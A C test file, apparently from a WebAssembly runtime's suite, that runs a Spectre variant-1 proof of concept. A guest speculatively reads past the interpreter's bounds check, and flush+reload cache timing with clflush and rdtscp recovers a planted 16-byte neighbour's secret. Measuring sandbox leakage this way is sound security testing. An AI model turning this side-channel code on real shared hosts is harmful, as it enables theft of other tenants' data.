/* tests/spectre/guest.c - Spectre, variant 1, by a guest: what it reads beyond the interpreter's bounds check.
 * SPDX-License-Identifier: Apache-2.0
 *
 *     guest GUEST.wasm       x86-64, two processors
 *
 * The guest's memory stands in a static block of the host, with another tenant's secret behind it: of
 * the page providers only that one has no guard there. The guest loads within its memory 29 times and then
 * beyond: a trap. A helper keeps taking the size of the memory out of the cache, as a neighbour on the
 * machine could by filling it, so that the comparison comes late. Then the host looks which line
 * of the guest's own memory was loaded meanwhile. Prints how many of 16 secret bytes came out.
 */
#define _GNU_SOURCE
#include "engine/engine.h"
#include "wrt/store.h"

#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <x86intrin.h>

enum { PAGE = 65536, PAGES = 3, LINE = 512, VALUES = 256, ROUNDS = 600, SECRET_BYTES = 16 };

static _Alignas(4096) uint8_t space[(PAGES + 1) * PAGE];
static char *const secret = (char *)space + PAGES * PAGE + 200;
static volatile uint8_t sink;
static const void *flushed;
static atomic_bool is_over;

static void must(enum wrt_status status, const struct wrt_error *error)
{
    if (status == WRT_OK)
        return;
    fprintf(stderr, "guest: %s\n", error->text);
    exit(2);
}

static void stay_on(unsigned processor)
{
    cpu_set_t set;

    CPU_ZERO(&set);
    CPU_SET(processor, &set);
    if (sched_setaffinity(0, sizeof set, &set) != 0)
        exit(77);
}

static void *flush(void *unused)
{
    stay_on(1);
    while (!atomic_load_explicit(&is_over, memory_order_relaxed)) {
        _mm_clflush(flushed);
        for (int wait = 0; wait < 40; wait++)
            _mm_pause();
    }
    return unused;
}

static uint64_t time_of(const uint8_t *at)
{
    unsigned unused;
    const uint64_t from = __rdtscp(&unused);

    sink = *(const volatile uint8_t *)at;
    return __rdtscp(&unused) - from;
}

static uint64_t threshold(void) /* between a cached and a flushed load */
{
    uint64_t near = 0, far = 0;

    for (int i = 0; i < 2000; i++) {
        sink = space[0];
        near += time_of(space);
        _mm_clflush(space);
        _mm_mfence();
        far += time_of(space);
    }
    return (near + far) / 4000;
}

static int guess(struct wrt_store *store, struct wrt_function *attack, uint32_t beyond, uint64_t ticks)
{
    static unsigned hits[VALUES];
    uint8_t *const lines = space + PAGE;
    int best = 1;

    memset(hits, 0, sizeof hits);
    for (unsigned round = 0; round < ROUNDS; round++) {
        const union wrt_slot arguments[2] = {{.i32 = beyond}, {.i32 = round % 64}};
        union wrt_slot result;

        for (int v = 0; v < VALUES; v++)
            _mm_clflush(&lines[v * LINE]);
        sink = *(volatile uint8_t *)&space[beyond]; /* its owner uses it */
        _mm_mfence();
        if (wrt_function_call_slots(store, attack, arguments, 2, &result, 1) != WRT_ERR_TRAP) {
            fprintf(stderr, "guest: the load beyond the memory did not trap\n");
            exit(2);
        }
        for (int i = 0; i < VALUES; i++) {
            const int v = (i * 167 + 13) & 255; /* in an order that is not prefetched */
            if (v != 0 && time_of(&lines[v * LINE]) <= ticks)
                hits[v]++; /* 0 is what the good loads give */
        }
    }
    for (int v = 1; v < VALUES; v++)
        if (hits[v] > hits[best])
            best = v;
    return hits[best] >= 3 ? best : -1;
}

int main(int count, char **arguments)
{
    static uint8_t bytes[4096];
    const struct wrt_store_config config = {.pages = {.provider = WRT_PAGES_STATIC, .static_block = space,
                                                      .static_block_bytes = PAGES * PAGE}};
    struct wrt_partition *partition;
    struct wrt_store *store;
    struct wrt_module *module;
    struct wrt_instance *instance;
    struct wrt_extern attack;
    struct wrt_error error = {.text = ""};
    pthread_t helper;
    FILE *in = count == 2 ? fopen(arguments[1], "rb") : NULL;
    int right = 0;

    if (in == NULL)
        return 2;
    const size_t size = fread(bytes, 1, sizeof bytes, in);
    fclose(in);
    stay_on(0);
    const uint64_t ticks = threshold();
    must(wrt_partition_create(NULL, NULL, &partition, &error), &error);
    must(wrt_store_create(partition, &config, &store, &error), &error);
    must(wrt_module_load(partition, NULL, bytes, size, &module, &error), &error);
    must(wrt_store_instantiate(store, module, &instance, &error), &error);
    must(wrt_instance_export(instance, "attack", &attack), &error);
    memcpy(secret, "of another guest", SECRET_BYTES);
    memset(space + PAGE, 1, (PAGES - 1) * PAGE); /* lines of their own, not the zero page's */
    flushed = &store->exec.memory_bytes;
    if (pthread_create(&helper, NULL, flush, NULL) != 0)
        return 77;
    for (uint32_t i = 0; i < SECRET_BYTES; i++) {
        const uint32_t beyond = (uint32_t)(secret - (char *)space) + i;
        right += guess(store, attack.of.function, beyond, ticks) == secret[i];
    }
    atomic_store(&is_over, true);
    (void)pthread_join(helper, NULL);
    printf("%d of %d bytes\n", right, SECRET_BYTES);
    return 0;
}
